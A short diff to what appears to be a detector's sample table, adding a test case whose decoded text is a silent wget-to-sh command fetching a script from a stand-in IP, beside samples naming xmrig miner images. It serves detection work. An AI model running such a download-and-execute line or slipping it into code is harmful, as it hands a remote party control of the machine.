@@ -201,6 +201,12 @@ MATCHING: Final = (
         "identity.autostart",
         "a program that is called as a family's",
     ),
+    _of(
+        _BACKUP,
+        "identity.known-line",
+        "a family's line in what is decoded",
+        followed(_BACKUP, text="wget -q -O - http://203.0.113.9/d.sh | sh > /dev/null 2>&1", step=Step.DECODED),
+    ),
     *(
         Sample("identity.image", image, snapshot(pod := _container(image)), pod.subject)
         for image in ("xmrig", "registry.example.org/tools/xmrig:6.21@sha256:00")
